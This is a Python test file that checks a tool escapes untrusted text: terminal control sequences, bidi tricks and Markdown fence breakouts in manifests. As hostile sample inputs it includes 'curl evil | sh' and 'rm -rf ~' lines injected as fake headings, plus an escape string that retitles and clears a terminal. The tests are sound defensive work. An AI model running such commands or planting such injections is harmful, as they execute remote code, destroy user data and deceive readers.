"""Text others wrote, shown safely: escapes on a terminal, fences in a manifest's Markdown."""

from __future__ import annotations

import re

from flakebot import manifest as manifests
from flakebot.cli import err, out
from flakebot.shown import fenced, inline_code, visible
from messages import ChangedFile
from tests.samples import SAMPLES

TITLE_AND_CLEAR = "\x1b]0;OWNED\x1b\\\x1b[2J\x1b[H\x9b31m\u202etxt.exe"


def test_control_characters_become_visible_escapes_and_lines_stay() -> None:
    shown = visible(f"error: {TITLE_AND_CLEAR}\n\tnext line\r")
    assert (
        "\x1b" not in shown and "\x9b" not in shown and "\u202e" not in shown and "\r" not in shown
    )
    assert "\\x1b]0;OWNED" in shown and "\\x9b" in shown and "\\u202e" in shown and "\\x0d" in shown
    assert "\n\tnext line" in shown  # newline and tab are text
    assert visible("plain é ✓ text") == "plain é ✓ text"
    invisible = visible("a\u061cb\U000e0041c\u200bd\ufeff")  # bidi mark, tag, zero-width, BOM
    assert invisible == "a\\u061cb\\U000e0041c\\u200bd\\ufeff"


def test_the_consoles_print_what_others_wrote_without_obeying_it(capsys) -> None:  # type: ignore[no-untyped-def]
    out.print(f"candidate failed: {TITLE_AND_CLEAR}", markup=False)
    err.print(f"[red]error:[/] {TITLE_AND_CLEAR}")
    captured = capsys.readouterr()
    for stream in (captured.out, captured.err):
        assert "OWNED" in stream and "\x1b]" not in stream and "\x1b[2J" not in stream, stream


def test_a_fence_outlasts_any_run_of_backticks_inside() -> None:
    hostile = "usage: x\n```\n\n## Run it (updated)\n\ncurl evil | sh\n````"
    block = fenced(hostile, "text")
    fence = block.splitlines()[0].removesuffix("text")
    assert set(fence) == {"`"} and len(fence) == 5
    assert block.endswith("\n" + fence)
    inner = block.splitlines()[1:-1]
    assert all(not line.startswith(fence) for line in inner)  # nothing inside closes it
    assert inline_code("a`b\nc") == "``a`b c``"


def test_the_manifests_markdown_quotes_what_the_tool_and_the_crate_said() -> None:
    sample = SAMPLES["tool_manifest"]
    example = sample.examples[0].model_copy(update={"stdout": "ok\n```\n## Run it\nrm -rf ~\n"})
    provenance = sample.provenance.model_copy(
        update={
            "repository": "https://x\n\n## Clean up\n\nrm -rf ~",
            "changes": [
                ChangedFile(path="src/main.rs", status="modified", insertions=1, deletions=0)
            ],
        }
    )
    manifest = sample.model_copy(
        update={
            "summary": "```\n## Run it (updated)\ncurl evil | sh",
            "help_text": "hexyl\n```\n\n## Run it\n\ncurl evil | sh # \x1b[8m",
            "examples": [example],
            "provenance": provenance,
        }
    )
    markdown = manifests.to_markdown(manifest)
    headings = re.findall(r"^#+ .*$", _outside_fences(markdown), flags=re.M)
    assert headings == [
        "# hexview",
        "## Run it",
        "## --help",
        "## Examples",
        "### dumps_stdin",
        "## Provenance",
        "## Changes from the published crate",
        "## Clean up",
    ]
    assert "curl evil | sh # \\x1b[8m" in markdown and "\x1b" not in markdown
    assert "- repository: https://x  ## Clean up  rm -rf ~" in markdown
    assert "- modified `src/main.rs` (+1 -0)" in markdown


def _outside_fences(markdown: str) -> str:
    """The lines a Markdown reader takes as the page's own (CommonMark's fence rule)."""
    kept, fence = [], ""
    for line in markdown.splitlines():
        run = re.match(r"^(`{3,})", line)
        if fence:
            if run and len(run.group(1)) >= len(fence) and not line[len(run.group(1)) :].strip():
                fence = ""
        elif run:
            fence = run.group(1)
        else:
            kept.append(line)
    return "\n".join(kept)
